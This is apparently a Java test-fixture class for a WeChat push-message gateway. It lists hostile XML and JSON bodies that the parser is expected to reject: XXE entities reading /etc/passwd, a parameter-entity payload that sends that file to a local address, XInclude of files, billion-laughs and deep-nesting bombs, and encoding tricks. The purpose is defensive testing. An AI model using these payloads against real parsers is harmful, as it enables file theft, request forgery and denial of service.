package org.wechatc4c.gateway.push;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Bodies that try to make the reader load, expand or confuse something. Each is to be refused as unreadable, wherever it
 * stands: in the clear, as the envelope or within the encrypted content.
 */
public final class HostileBodies {

    private static final String FILE = "file:///etc/passwd";
    private static final String ADDRESS = "http://127.0.0.1:1/x";

    private HostileBodies() {
    }

    public record HostileBody(String name, byte[] bytes) {
        @Override
        public String toString() {
            return name;
        }
    }

    public static List<HostileBody> all() {
        var all = new ArrayList<HostileBody>();
        all.addAll(documentTypes());
        all.addAll(inclusions());
        all.addAll(bombs());
        all.addAll(encodings());
        all.addAll(forbiddenCharacters());
        return List.copyOf(all);
    }

    private static List<HostileBody> documentTypes() {
        return List.of(
                body("a document type", "<!DOCTYPE xml>" + push("x")),
                body("a document type after a comment", "<!-- x --><!DOCTYPE xml>" + push("x")),
                body("a document type after blanks and a declaration", "<?xml version=\"1.0\"?>\n\n<!DOCTYPE xml>" + push("x")),
                body("a document type of HTML", "<!DOCTYPE html>" + push("x")),
                body("a document type from a file", "<!DOCTYPE xml SYSTEM \"" + FILE + "\">" + push("x")),
                body("a document type from an address", "<!DOCTYPE xml SYSTEM \"" + ADDRESS + "\">" + push("x")),
                body("a document type that is public", "<!DOCTYPE xml PUBLIC \"-//X//X\" \"" + ADDRESS + "\">" + push("x")),
                body("an entity", "<!DOCTYPE xml [<!ENTITY a \"1\">]>" + push("&a;")),
                body("an entity that nobody uses", "<!DOCTYPE xml [<!ENTITY a \"1\">]>" + push("x")),
                body("an entity from a file", "<!DOCTYPE xml [<!ENTITY a SYSTEM \"" + FILE + "\">]>" + push("&a;")),
                body("an entity from an address", "<!DOCTYPE xml [<!ENTITY a SYSTEM \"" + ADDRESS + "\">]>" + push("&a;")),
                body("an entity that is public", "<!DOCTYPE xml [<!ENTITY a PUBLIC \"x\" \"" + ADDRESS + "\">]>" + push("&a;")),
                body("an entity from a jar",
                        "<!DOCTYPE xml [<!ENTITY a SYSTEM \"jar:" + ADDRESS + "!/a\">]>" + push("&a;")),
                body("an entity from another host's share",
                        "<!DOCTYPE xml [<!ENTITY a SYSTEM \"file://127.0.0.1/share/a\">]>" + push("&a;")),
                body("an entity from an FTP server",
                        "<!DOCTYPE xml [<!ENTITY a SYSTEM \"ftp://127.0.0.1:1/a\">]>" + push("&a;")),
                body("an entity in an attribute", "<!DOCTYPE xml [<!ENTITY a \"1\">]><xml a=\"&a;\"><A>1</A></xml>"),
                body("a parameter entity from a file",
                        "<!DOCTYPE xml [<!ENTITY % p SYSTEM \"" + FILE + "\"> %p;]>" + push("x")),
                body("a parameter entity from an address",
                        "<!DOCTYPE xml [<!ENTITY % p SYSTEM \"" + ADDRESS + "\"> %p;]>" + push("x")),
                body("a parameter entity that sends a file away",
                        "<!DOCTYPE xml [<!ENTITY % f SYSTEM \"" + FILE + "\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '"
                                + ADDRESS
                                + "?%f;'>\">%e;%s;]>" + push("x")),
                body("a default attribute", "<!DOCTYPE xml [<!ATTLIST xml a CDATA \"1\">]>" + push("x")),
                body("a notation", "<!DOCTYPE xml [<!NOTATION n SYSTEM \"" + ADDRESS + "\">]>" + push("x")),
                body("a document type without end", "<!DOCTYPE xml ["),
                body("a document type after the root", push("x") + "<!DOCTYPE xml>"),
                body("an entity that nobody declared", push("&unknown;")),
                body("an entity of HTML", push("&nbsp;")),
                body("an entity without end", push("&amp")));
    }

    private static List<HostileBody> inclusions() {
        return List.of(
                body("an inclusion of a file",
                        push("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                                + FILE + "\"/>")),
                body("an inclusion of an address", push("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                        + ADDRESS + "\"/>")),
                body("an inclusion without a prefix",
                        push("<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"" + FILE + "\"/>")),
                body("an inclusion of the older namespace",
                        push("<xi:include xmlns:xi=\"http://www.w3.org/2003/XInclude\" href=\"" + FILE + "\"/>")),
                body("an inclusion as the root",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + FILE + "\"><A>1</A></xi:include>"),
                body("a namespace on the root", "<xml xmlns:xi=\"http://www.w3.org/2001/XInclude\"><A>1</A></xml>"),
                body("a schema", "<xml xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                        + "xsi:noNamespaceSchemaLocation=\"" + ADDRESS + "\"><A>1</A></xml>"),
                body("a prefix that nobody declared", "<xml><a:A>1</a:A></xml>"));
    }

    private static List<HostileBody> bombs() {
        return List.of(
                body("entities of entities", laughs(10)),
                body("one long entity many times",
                        "<!DOCTYPE xml [<!ENTITY a \"" + "a".repeat(50_000) + "\">]>" + push("&a;".repeat(50_000))),
                body("an entity of itself", "<!DOCTYPE xml [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>" + push("&a;")),
                body("deep XML", "<a>".repeat(10_000) + "</a>".repeat(10_000)),
                body("XML one too deep", "<a>".repeat(33) + "</a>".repeat(33)),
                body("deep XML without end", "<a>".repeat(80_000)),
                body("deep JSON", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)),
                body("JSON one too deep", "{\"a\":".repeat(33) + "1" + "}".repeat(33)),
                body("deep lists", "{\"a\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}"),
                body("deep lists without end", "{\"a\":" + "[".repeat(200_000)),
                body("many elements", "<xml>" + "<a/>".repeat(50_000) + "</xml>"),
                body("many members", "{" + "\"a\":1,".repeat(30_000) + "\"a\":1}"),
                body("a long list", "{\"a\":[" + "1,".repeat(100_000) + "1]}"),
                body("many attributes", "<xml " + IntStream.range(0, 10_000).mapToObj(i -> "a" + i + "=\"1\"")
                        .collect(Collectors.joining(" ")) + "><A>1</A></xml>"),
                body("a long attribute", "<xml a=\"" + "a".repeat(200_000) + "\"><A>1</A></xml>"),
                body("the same attribute twice", "<xml a=\"1\" a=\"2\"><A>1</A></xml>"),
                body("a long number", "{\"A\":" + "1".repeat(200_000) + "}"));
    }

    private static List<HostileBody> encodings() {
        var declared = "<?xml version=\"1.0\" encoding=\"%s\"?>" + push("订单");
        return List.of(
                encoded("UTF-16 with a mark", declared.formatted("UTF-16"), UTF_16),
                encoded("UTF-16 without a mark, the low byte first", declared.formatted("UTF-16"), UTF_16LE),
                encoded("UTF-16 without a mark, the high byte first", push("x"), UTF_16BE),
                encoded("UTF-32 with a mark", "\uFEFF" + push("x"), Charset.forName("UTF-32LE")),
                encoded("UTF-32 without a mark", push("x"), Charset.forName("UTF-32BE")),
                encoded("a document type in UTF-16",
                        "<!DOCTYPE xml [<!ENTITY a SYSTEM \"" + FILE + "\">]>" + push("&a;"), UTF_16),
                encoded("JSON in UTF-16", "{\"A\":\"1\"}", UTF_16),
                encoded("JSON in UTF-32", "{\"A\":\"1\"}", Charset.forName("UTF-32BE")),
                encoded("EBCDIC", "<?xml version=\"1.0\" encoding=\"IBM037\"?>" + push("x"), Charset.forName("IBM037")),
                encoded("Latin-1", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + push("é"), ISO_8859_1),
                body("UTF-8 that says UTF-16", declared.formatted("UTF-16")),
                body("UTF-8 that says UTF-7", declared.formatted("UTF-7")),
                body("a document type in UTF-7", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"
                        + "+ADwAIQ-DOCTYPE xml+AFsAPAAh-ENTITY a SYSTEM +ACI-" + FILE + "+ACIAPgBdAD4-" + push("&a;")),
                body("UTF-8 that says GBK", declared.formatted("GBK")),
                body("UTF-8 that says an encoding that is none", declared.formatted("x-none")),
                body("XML 1.1", "<?xml version=\"1.1\"?>" + push("x")),
                body("a declaration after blanks", " <?xml version=\"1.0\"?>" + push("x")),
                body("the mark of UTF-7", "+/v8-" + push("x")),
                bytes("a byte that UTF-8 never has", "ff"),
                bytes("a character that is cut off", "e4b8"),
                bytes("an overlong blank", "c0a0"),
                bytes("an overlong less-than", "c0bc"),
                bytes("half a character in UTF-8", "eda080"),
                bytes("both halves of a character in UTF-8", "eda0bdedb880"),
                bytes("a character beyond the last", "f4908080"),
                bytes("a continuation without a beginning", "80"));
    }

    private static List<HostileBody> forbiddenCharacters() {
        return List.of(
                body("a zero", push("a\0b")),
                body("a control character", push("\u0001")),
                body("a control character in a section", push("<![CDATA[\u0008]]>")),
                body("a control character in a comment", push("<!-- \u0002 -->x")),
                body("a control character in a name", "<xml><A\u0003>1</A\u0003></xml>"),
                body("a character that is none", push("\uFFFE")),
                body("another character that is none", push("\uFFFF")),
                body("a reference to zero", push("&#0;")),
                body("a reference to a control character", push("&#x1;")),
                body("a reference to half a character", push("&#xD800;")),
                body("a reference to both halves of a character", push("&#xD83D;&#xDE00;")),
                body("a reference to a character that is none", push("&#xFFFE;")),
                body("a reference beyond the last character", push("&#x110000;")),
                body("a reference that is too long", push("&#99999999999999999999;")),
                body("the end of a section outside of one", push("a]]>b")),
                body("the first half of a character in JSON", "{\"A\":\"\\ud800\"}"),
                body("the second half of a character in JSON", "{\"A\":\"\\udc00\"}"),
                body("the halves of a character the wrong way round in JSON", "{\"A\":\"\\udc00\\ud800\"}"),
                body("half a character before a whole one in JSON", "{\"A\":\"\\ud83d\\ud83d\\ude00\"}"),
                body("half a character in a name in JSON", "{\"A\\ud800\":\"1\"}"),
                body("half a character in a list in JSON", "{\"A\":[\"1\",\"\\ud800\"]}"),
                body("a control character in JSON", "{\"A\":\"a\u0001b\"}"),
                body("a zero in JSON", "{\"A\":\"a\0b\"}"));
    }

    private static String laughs(int levels) {
        var type = new StringBuilder("<!DOCTYPE xml [<!ENTITY a0 \"ha\">");
        for (int i = 1; i <= levels; i++) {
            type.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return type + "]>" + push("&a" + levels + ";");
    }

    private static String push(String content) {
        return "<xml><ToUserName>gh_c4c000000001</ToUserName><FromUserName>oC4Cdemo0000000000000000001</FromUserName>"
                + "<CreateTime>1700000000</CreateTime><MsgType>text</MsgType><MsgId>1</MsgId><Content>" + content
                + "</Content></xml>";
    }

    private static HostileBody body(String name, String body) {
        return encoded(name, body, UTF_8);
    }

    private static HostileBody encoded(String name, String body, Charset charset) {
        return new HostileBody(name, body.getBytes(charset));
    }

    /** Bytes that no text can hold, as the content of a push. */
    private static HostileBody bytes(String name, String hex) {
        var around = push("|").split("\\|", 2);
        var content = new String(HexFormat.of().parseHex(hex), ISO_8859_1);
        return encoded(name, around[0] + content + around[1], ISO_8859_1);
    }
}
